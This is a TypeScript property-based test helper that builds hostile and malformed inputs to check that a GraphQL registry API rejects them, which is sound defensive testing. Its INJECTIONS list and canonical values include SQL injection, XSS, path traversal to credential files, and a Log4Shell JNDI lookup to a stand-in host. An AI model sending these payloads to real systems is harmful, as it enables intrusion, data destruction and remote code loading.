import { isCountryCode } from '@registry/domain';
import fc from 'fast-check';
import {
  getNamedType,
  isEnumType,
  isInputObjectType,
  isListType,
  isNonNullType,
  isScalarType,
  type GraphQLInputField,
  type GraphQLInputObjectType,
  type GraphQLSchema,
} from 'graphql';

/** How a mutation input field is checked, read off the schema (type, then name). */
export type FieldKind = 'identifier' | 'text' | 'date' | 'country' | 'identifierList' | 'objectList' | 'object' | 'enum' | 'int' | 'boolean' | 'commandId';

/** Fields a person writes freely: any printable text is legitimate there, injection-looking text included. */
export const FREE_TEXT_FIELDS = new Set([
  'name',
  'title',
  'holderName',
  'reason',
  'label',
  'conditions',
  'sector',
  'occupation',
  'awardingBody',
  'organisation',
  'representative',
  'description',
  'note',
  // correctCertificate: the printed value as it should read (a holder's name)
  'value',
]);

export interface InputField {
  name: string;
  kind: FieldKind;
  required: boolean;
  enumValues: string[];
  /** The fields of each item of a list of input objects (kind objectList), or of one input object (kind object). */
  nested: InputField[];
}

export function inputFieldsOf(schema: GraphQLSchema, mutation: string): InputField[] {
  const arg = schema.getMutationType()?.getFields()[mutation]?.args.find((a) => a.name === 'input');
  const type = arg === undefined ? undefined : getNamedType(arg.type);
  if (type === undefined || !isInputObjectType(type)) throw new Error(`mutation ${mutation} has no input object`);
  return Object.values((type as GraphQLInputObjectType).getFields()).map((field) => describe(field));
}

function describe(field: GraphQLInputField): InputField {
  const named = getNamedType(field.type);
  const unwrapped = isNonNullType(field.type) ? field.type.ofType : field.type;
  const base = { name: field.name, required: isNonNullType(field.type), enumValues: isEnumType(named) ? named.getValues().map((v) => v.name) : [], nested: [] };
  if (isListType(unwrapped) && isInputObjectType(named)) return { ...base, kind: 'objectList', nested: Object.values(named.getFields()).map(describe) };
  if (isListType(unwrapped)) return { ...base, kind: 'identifierList' };
  if (isInputObjectType(named)) return { ...base, kind: 'object', nested: Object.values(named.getFields()).map(describe) };
  if (isEnumType(named)) return { ...base, kind: 'enum' };
  if (isScalarType(named) && named.name === 'Date') return { ...base, kind: 'date' };
  if (isScalarType(named) && named.name === 'Int') return { ...base, kind: 'int' };
  // Its own kind: the identifiers' wrong types include booleans, which a Boolean field rightly takes.
  if (isScalarType(named) && named.name === 'Boolean') return { ...base, kind: 'boolean' };
  if (field.name === 'commandId') return { ...base, kind: 'commandId' };
  if (field.name === 'country') return { ...base, kind: 'country' };
  if (FREE_TEXT_FIELDS.has(field.name)) return { ...base, kind: 'text' };
  return { ...base, kind: 'identifier' };
}

/** Strings that try to break out of SQL, HTML, JSON, paths, templates or prototypes. Each holds at least one
 * character an identifier may not have. */
export const INJECTIONS = [
  "' OR '1'='1",
  "'; DROP TABLE events; --",
  '" OR 1=1 --',
  'x"); DELETE FROM events; --',
  '<script>alert(1)</script>',
  '<img src=x onerror=alert(1)>',
  '{"$gt": ""}',
  '../../../../etc/passwd',
  '..\\..\\windows\\win.ini',
  '${jndi:ldap://evil.example/a}',
  '{{7*7}}',
  '#{7*7}',
  '__proto__',
  '%00',
  'a%0d%0aSet-Cookie: x=1',
  '*',
  '%',
  'th-ftpi OR 1=1',
  'certificate-*',
  '$where',
];

const CONTROL = fc.constantFrom('\u0000', '\u0001', '\u0007', '\b', '\t', '\n', '\r', '\u001b', '\u007f', '\u0085', '\u009f');
const BIDI = fc.constantFrom('\u202a', '\u202b', '\u202d', '\u202e', '\u2066', '\u2067', '\u2068', '\u2069');
const LONE_SURROGATE = fc.constantFrom('\ud800', '\udbff', '\udc00', '\udfff');
const around = (middle: fc.Arbitrary<string>): fc.Arbitrary<string> =>
  fc.tuple(fc.string({ maxLength: 8 }), middle, fc.string({ maxLength: 8 })).map(([a, m, b]) => `${a}${m}${b}`);

const wrongType = (required: boolean): fc.Arbitrary<unknown> =>
  fc.oneof(
    fc.integer(),
    fc.boolean(),
    fc.double({ noNaN: true, noDefaultInfinity: true }),
    fc.constant({}),
    fc.dictionary(fc.string({ minLength: 1, maxLength: 5 }), fc.string({ maxLength: 5 }), { minKeys: 1, maxKeys: 3 }),
    fc.constant([{ nested: true }]),
    ...(required ? [fc.constant(null)] : []),
  );

const tooLong = (limit: number, char = 'A'): fc.Arbitrary<string> => fc.integer({ min: limit + 1, max: limit * 4 }).map((n) => char.repeat(n));

const daysIn = (year: number, month: number): number => new Date(Date.UTC(year, month, 0)).getUTCDate();
const pad = (n: number): string => String(n).padStart(2, '0');

export const impossibleDate: fc.Arbitrary<string> = fc.oneof(
  // One to three days past the month's end: 2023-02-29, 2024-02-30, 2024-04-31, 2024-01-32…
  fc
    .record({ year: fc.integer({ min: 1900, max: 2199 }), month: fc.integer({ min: 1, max: 12 }), extra: fc.integer({ min: 1, max: 3 }) })
    .map(({ year, month, extra }) => `${year}-${pad(month)}-${pad(daysIn(year, month) + extra)}`),
  fc.record({ year: fc.integer({ min: 1900, max: 2199 }), month: fc.integer({ min: 13, max: 99 }) }).map(({ year, month }) => `${year}-${month}-01`),
  fc.integer({ min: 1900, max: 2199 }).map((year) => `${year}-00-10`),
  fc.integer({ min: 1900, max: 2199 }).map((year) => `${year}-01-00`),
);

export const malformedDate: fc.Arbitrary<string> = fc.oneof(
  fc.constantFrom('2024-1-01', '2024/01/01', '20240101', '2024-01-01T00:00:00Z', ' 2024-01-01', '2024-01-01 ', '+02024-01-01', '2024-02-29x', 'yesterday', '', '٢٠٢٤-٠١-٠١', '2024-01-0１'),
  fc.string({ maxLength: 12 }).filter((s) => !/^\d{4}-\d{2}-\d{2}$/.test(s)),
);

const unknownCountry: fc.Arbitrary<string> = fc.oneof(
  fc.stringMatching(/^[A-Z]{2}$/).filter((code) => !isCountryCode(code)),
  fc.constantFrom('XX', 'ZZ', 'QQ', 'AA', 'UK', 'EU', 'THA', 'T', '76', 'T1', ' TH', 'TH ', 'T\u0000', 'ΤΗ'),
);

const identifier = (limit = 64): fc.Arbitrary<string> =>
  fc.oneof(
    around(CONTROL),
    around(BIDI),
    tooLong(limit),
    fc.constantFrom(...INJECTIONS),
    fc.constantFrom('', ' ', ' a', 'a ', 'a  b', '-a', '.a', 'th-ftpі', 'ｔｈ-ftpi', '\u00a0th'),
  );

const text = (limit = 1_000): fc.Arbitrary<string> =>
  fc.oneof(around(CONTROL), around(BIDI), around(LONE_SURROGATE), tooLong(limit, 'é'), fc.constantFrom('', ' ', '   '));

/** Values that must be refused as BAD_USER_INPUT in a field of this kind, whatever the rest of the input. */
export function hostileValueFor(field: InputField): fc.Arbitrary<unknown> {
  const wrong = wrongType(field.required);
  switch (field.kind) {
    case 'identifier':
      return fc.oneof(identifier(), wrong);
    case 'text':
      return fc.oneof(text(), wrong);
    case 'date':
      return fc.oneof(impossibleDate, malformedDate, wrong);
    case 'country':
      return fc.oneof(unknownCountry, wrong);
    case 'identifierList':
      return fc.oneof(
        fc.integer({ min: 51, max: 120 }).map((n) => Array.from({ length: n }, (_, i) => `ID-${i}`)),
        identifier().map((bad) => ['ok-1', bad]),
        fc.constant([['nested']]),
        fc.constant(['ok-1', null]),
        fc.constant([{ a: 1 }]),
        ...(field.required ? [fc.constant(null)] : []),
      );
    case 'objectList':
      return fc.oneof(
        fc.constant([['nested']]),
        fc.constant(['an item that is not an object']),
        fc.integer(),
        fc.constant([{ unknownField: 1 }]),
        ...(field.required ? [fc.constant(null)] : []),
      );
    case 'object':
      return fc.oneof(
        fc.constant([{}]),
        fc.string({ maxLength: 10 }),
        fc.integer(),
        fc.constant({ unknownField: 1 }),
        ...(field.required ? [fc.constant(null)] : []),
      );
    case 'enum':
      return fc.oneof(
        fc.string({ maxLength: 20 }).filter((s) => !field.enumValues.includes(s)),
        fc.constantFrom('SUPERUSER', 'ROOT', ...field.enumValues.map((v) => v.toLowerCase())),
        fc.integer(),
        ...(field.required ? [fc.constant(null)] : []),
      );
    case 'int':
      return fc.oneof(
        fc.double({ noNaN: true, noDefaultInfinity: true }).filter((d) => !Number.isInteger(d)),
        fc.integer({ min: 2 ** 31, max: 2 ** 52 }),
        fc.integer({ min: -(2 ** 52), max: -(2 ** 31) - 1 }),
        fc.string({ maxLength: 5 }),
        fc.boolean(),
      );
    case 'boolean':
      return fc.oneof(
        fc.string({ maxLength: 8 }),
        fc.constantFrom('true', 'false', 0, 1),
        fc.integer(),
        fc.constant({}),
        fc.constant([true]),
        ...(field.required ? [fc.constant(null)] : []),
      );
    case 'commandId':
      return fc.oneof(
        fc.string({ maxLength: 40 }),
        fc.constantFrom('not-a-uuid', 'ffffffff-ffff-ffff-ffff-fffffffffffff', '00000000-0000-0000-0000-00000000000g', `${'1'.repeat(36)}`),
        fc.integer(),
      );
    default: {
      const unknown: never = field.kind;
      throw new Error(`unknown field kind ${String(unknown)}`);
    }
  }
}

/** The canonical bad values of each kind, always tried before the random ones. */
export function canonicalHostileValues(field: InputField): unknown[] {
  switch (field.kind) {
    case 'identifier':
      return ["' OR '1'='1", 'a\u0000b', 'A'.repeat(65), '', 42];
    case 'text':
      return ['Som\u0000chai', 'abc\u202edcba', 'é'.repeat(1_001), '  ', 42];
    case 'date':
      return ['2024-02-30', '2023-02-29', '2024-13-01', '2024-04-31', '2024-1-1', 20240101];
    case 'country':
      return ['XX', 'ZZ', 'THA', '', 66];
    case 'identifierList':
      return [Array.from({ length: 51 }, (_, i) => `ID-${i}`), ['ok', "'; DROP TABLE events; --"], [['nested']]];
    case 'objectList':
      return [[['nested']], ['not an object'], 42];
    case 'object':
      return [[{}], 'not an object', 42, { unknownField: 1 }];
    case 'enum':
      return ['SUPERUSER', ''];
    case 'int':
      return [1.5, 2 ** 40, '3'];
    case 'boolean':
      return ['true', 1, [true]];
    case 'commandId':
      return ['not-a-uuid', 12345];
    default: {
      const unknown: never = field.kind;
      throw new Error(`unknown field kind ${String(unknown)}`);
    }
  }
}

/** Not an ISO 8601 instant with a zone, or one still to come: every `knownAt` refuses these. */
export const malformedInstant: fc.Arbitrary<string> = fc.oneof(
  fc.constantFrom(
    '2025-06-01',
    '2025-06-01T10:00:00',
    '2025-06-01 10:00:00Z',
    '2025-13-01T10:00:00Z',
    '2025-02-30T10:00:00Z',
    '2025-06-01T25:00:00Z',
    '2999-01-01T00:00:00Z',
    '1717236000000',
    'now',
    '',
    ' 2025-06-01T10:00:00Z',
    '2025-06-01T10:00:00Z ',
    '٢٠٢٥-06-01T10:00:00Z',
  ),
  fc.string({ maxLength: 30 }),
  fc.constantFrom(...INJECTIONS),
);
